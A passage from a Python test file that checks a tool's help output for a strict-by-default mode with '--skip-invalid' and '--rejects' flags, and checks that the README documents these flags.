    assert code == 0 and "Strict by default" in flat and "--skip-invalid" in flat
    assert "--rejects" in flat


def test_f9_documented_in_the_readme():
    readme = (ROOT / "README.md").read_text()
    assert "--skip-invalid" in readme and "strict" in readme.lower()
